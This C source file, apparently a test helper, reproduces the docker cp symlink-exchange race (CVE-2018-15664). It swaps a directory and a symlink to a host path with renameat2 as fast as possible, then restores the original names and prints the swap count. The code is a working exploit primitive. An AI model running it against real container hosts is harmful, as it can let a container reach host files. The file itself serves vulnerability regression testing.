/* SPDX-License-Identifier: Apache-2.0 */
/*
 * swap A B SECONDS: exchange the names A and B (renameat2 RENAME_EXCHANGE) as
 * fast as possible for SECONDS or until SIGTERM, so that whoever resolves a
 * path through A finds, at any moment, either A's directory or B (a symlink
 * to a host path): the race of `docker cp` (CVE-2018-15664). It always stops
 * with the names as they were (an even number of exchanges), so a test can
 * stop the race and then check what a plain copy gives. Prints the number of
 * swaps.
 */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
        (void)sig;
        stop = 1;
}

static int exchange(const char *a, const char *b)
{
        return (int)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

int main(int argc, char **argv)
{
        if (argc != 4) {
                fprintf(stderr, "usage: swap A B SECONDS\n");
                return 2;
        }
        signal(SIGTERM, on_term);
        signal(SIGINT, on_term);
        time_t end = time(NULL) + atoi(argv[3]);
        unsigned long n = 0;
        while (!stop && time(NULL) < end) {
                for (int i = 0; i < 1000 && !stop; i++)
                        if (exchange(argv[1], argv[2]) == 0)
                                n++;
        }
        /* back to the names as they were */
        while (n % 2 == 1)
                if (exchange(argv[1], argv[2]) == 0)
                        n++;
        printf("swapped %lu times\n", n);
        return 0;
}
